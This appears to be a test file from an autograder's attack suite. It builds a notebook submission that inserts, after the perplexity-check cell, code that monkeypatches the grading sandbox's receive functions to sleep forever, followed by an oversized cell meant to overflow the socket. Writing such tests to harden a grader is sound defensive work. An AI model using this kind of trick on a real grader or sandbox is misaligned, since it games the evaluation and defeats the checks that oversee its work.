"""The kernel says that a cell is done and never reads again; the next cell is larger than what a socket holds.

set: 06_perplexity
credit: perplexity-of-mean-nll 1
seconds: 1
"""

import json
from typing import Any

from grader.judge.verdict import Submission
from tests.attacks.arena import cell_of, own_cell

DEAF = """
import time
from grader.sandbox import frames
frames.receive = frames.receive_with_descriptor = lambda sock: time.sleep(10**9)
"""


def attack(notebook: dict[str, Any]) -> Submission:
    after = notebook["cells"].index(cell_of(notebook, "check-perplexity-of-mean-nll"))
    notebook["cells"][after + 1 : after + 1] = [own_cell(DEAF), own_cell("#" * 1_500_000)]
    return Submission(json.dumps(notebook).encode())
